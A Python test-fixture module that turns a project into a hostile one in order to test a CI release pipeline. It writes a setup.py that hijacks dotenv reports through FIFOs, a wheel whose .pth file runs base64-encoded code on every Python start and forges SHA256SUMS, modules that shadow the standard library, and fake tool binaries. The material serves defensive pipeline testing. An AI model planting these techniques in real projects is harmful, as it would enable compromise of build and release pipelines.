"""A project whose own build, dependency and files attack the pipeline that releases it."""

from __future__ import annotations

import base64
import hashlib
import zipfile
from pathlib import Path

from tools.commands import run

# Leaves a mark: which job ran it, and the names of the variables that it could read.
MARK = """
import os, pathlib
folder = os.environ.get("MARKS")
if folder:
    job = os.environ.get("CI_JOB_NAME", "")
    pathlib.Path(folder, f"{job} WHO").write_text("\\n".join(sorted(os.environ)))
"""

# Names of the standard library that programs import.
SHADOWS = ("argparse", "base64", "hashlib", "html", "http", "json", "pathlib", "platform", "re", "shutil", "tempfile")

# What a dotenv report of the build would have to say to take over the jobs after it.
TAKEOVER = {
    "COSIGN_RELEASES": "http://127.0.0.1:9",
    "COSIGN_SHA256_AMD64": "0" * 64,
    "PY_CI_COSIGN_RELEASES": "http://127.0.0.1:9",
    "PY_CI_COSIGN_SHA256_AMD64": "0" * 64,
    "PY_CI_SHA256SUMS_DIGEST": "0" * 64,
    "SHA256SUMS_DIGEST": "0" * 64,
    "BUILD_JOB_URL": "https://gitlab.com/evil/evil/-/jobs/1",
    "CI_PROJECT_URL": "https://gitlab.com/evil/evil",
    "CI_COMMIT_SHA": "0" * 40,
    "UV_PUBLISH_URL": "http://127.0.0.1:9/evil",
    "PYTHONPATH": ".",
}
REPORTS = ("build.env", "cosign.env", "digests.env", "image.env", "sbom.env")

# A report that is a FIFO takes what the job writes, and then says something else, without a race.
SETUP = """
import os, sys
for name in REPORTS:
    if os.path.exists(name):
        os.remove(name)
    os.mkfifo(name)
    if os.fork() == 0:
        os.setsid()
        for descriptor in range(256):
            try:
                os.close(descriptor)
            except OSError:
                pass
        with open(name) as taken:
            said = taken.read()
        os.remove(name)
        with open(name, "w") as report:
            report.write(said + TAKEOVER)
        os._exit(0)
import setuptools
setuptools.setup()
"""

# What a dependency does to what lies about where it is installed or looked at.
DEPENDENCY = """
import glob, hashlib
for wheel in glob.glob("**/another-*.whl", recursive=True):
    try:
        with open(wheel, "ab") as file:
            file.write(b"evil")
    except OSError:
        pass
    sums = pathlib.Path("SHA256SUMS")
    if sums.exists():
        text = sums.read_text().splitlines()
        digest = hashlib.sha256(pathlib.Path(wheel).read_bytes()).hexdigest()
        changed = [f"{digest}  {line[66:]}" if line.endswith(".whl") else line for line in text]
        sums.write_text("\\n".join([*changed, ""]))
for name in ("sbom.env", "digests.env", "build.env", "uv.toml", "links"):
    pathlib.Path(name).unlink(missing_ok=True)
    pathlib.Path(name).write_text("evil")
"""


def mark(who: str) -> str:
    """Return code that leaves the mark of somebody."""
    return MARK.replace("WHO", who)


def make_dependency(folder: Path) -> Path:
    """Make a wheel that runs code in each Python of an environment that it is installed into."""
    line = "import base64; exec(base64.b64decode('{}'))".format(
        base64.b64encode(f"{mark('dependency')}{DEPENDENCY}".encode()).decode()
    )
    files = {
        "evil.pth": f"{line}\n",
        "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
        "evil-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }

    def recorded(name: str, content: str) -> str:
        digest = base64.urlsafe_b64encode(hashlib.sha256(content.encode()).digest()).decode().rstrip("=")
        return f"{name},sha256={digest},{len(content.encode())}\n"

    record = "".join(recorded(name, content) for name, content in files.items())
    files["evil-1.0.dist-info/RECORD"] = f"{record}evil-1.0.dist-info/RECORD,,\n"
    wheel = folder / "evil-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return wheel


def make_hostile(project: Path, marks: Path, dependency: Path) -> None:
    """Turn a project into one that attacks: its build, a dependency, modules and settings in its root."""
    marks.mkdir()
    reports = "".join(f"{name}={value}\n" for name, value in TAKEOVER.items())
    code = mark("build") + f"REPORTS = {REPORTS!r}\nTAKEOVER = {reports!r}\n" + SETUP
    (project / "setup.py").write_text(code, encoding="utf-8")
    metadata = project / "pyproject.toml"
    text = metadata.read_text(encoding="utf-8")
    text = text.replace("[project]\n", f'[project]\ndependencies = ["evil @ {dependency.as_uri()}"]\n')
    metadata.write_text(text + '[tool.setuptools]\npackages = ["another"]\n', encoding="utf-8")
    for module in SHADOWS:
        (project / f"{module}.py").write_text(mark(module), encoding="utf-8")
    (project / "urllib").mkdir()
    (project / "urllib" / "__init__.py").write_text(mark("urllib"), encoding="utf-8")
    (project / "uv.toml").write_text('publish-url = "http://127.0.0.1:9/evil"\n', encoding="utf-8")
    (project / "signatures").mkdir()
    (project / "signatures" / "evil").write_text("evil\n", encoding="utf-8")
    for tool in (".uv/site-packages/bin/uv", ".venv/bin/python", ".pip/bin/python3", ".cosign/cosign"):
        (project / tool).parent.mkdir(parents=True, exist_ok=True)
        (project / tool).write_text(f"#!/bin/sh\ntouch {marks}/'{tool.replace('/', '_')}'\n", encoding="utf-8")
        (project / tool).chmod(0o755)
    run("git", "add", "--all", "--force", cwd=project)
